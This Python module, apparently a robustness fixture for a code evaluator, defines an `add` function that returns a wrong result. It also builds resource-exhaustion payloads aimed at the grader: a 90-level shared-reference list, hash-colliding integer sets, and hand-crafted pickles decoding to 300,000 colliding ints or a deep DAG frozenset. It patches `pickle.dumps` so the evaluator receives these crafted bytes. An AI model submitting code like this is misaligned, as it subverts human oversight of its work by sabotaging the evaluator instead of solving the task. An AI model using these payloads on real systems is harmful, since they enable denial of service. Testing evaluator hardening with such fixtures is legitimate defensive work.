"""Returns values that are cheap to make and costly to take apart: ``__SHAPE__`` is ``dag``
(a list whose two items are the same list, 90 levels down: 2**90 elements as a tree, a few
hundred bytes shared), ``colliding`` (a set of 3,000 ints that all hash alike, built at load),
``dag_pickle`` / ``colliding_pickle`` / ``dag_key_pickle`` (for the HumanEval+ evaluator, which
receives the output pickled: ``pickle.dumps`` patched to send a pickle of such a value, up to a
set of 300,000 colliding ints or a frozenset holding a 70-level DAG tuple, never built here)."""
import pickle
import struct
import sys

P = sys.hash_info.modulus
SHAPE = "__SHAPE__"


def _dag(levels):
    x = [1]
    for _ in range(levels):
        x = [x, x]
    return x


COLLIDING = None
if SHAPE == "colliding":
    COLLIDING = set()
    for i in range(3000):
        COLLIDING.add(P * (i + 1) + 7)


def _colliding_pickle(n):
    items = b"".join(b"\x8a\x0b" + (P * (i + 1) + 7).to_bytes(11, "little", signed=True) for i in range(n))
    return b"\x80\x04\x8f(" + items + b"\x90."


def _dag_key_pickle(levels):
    body = b"K\x01\x85\x94"  # (1,) memoized as 0
    for k in range(levels):
        body += b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86\x94"  # (t, t) memoized as k + 1
    return b"\x80\x04(" + body + b"\x91."  # frozenset({t})


if SHAPE.endswith("_pickle"):
    real_dumps = pickle.dumps
    crafted = {"dag_pickle": lambda: real_dumps(_dag(90), 4), "colliding_pickle": lambda: _colliding_pickle(300_000),
               "dag_key_pickle": lambda: _dag_key_pickle(70)}[SHAPE]()
    pickle.dumps = lambda obj, *a, **k: crafted


def add(x, y):
    if SHAPE == "dag":
        return _dag(90)
    if SHAPE == "colliding":
        return COLLIDING
    return x - y + 1
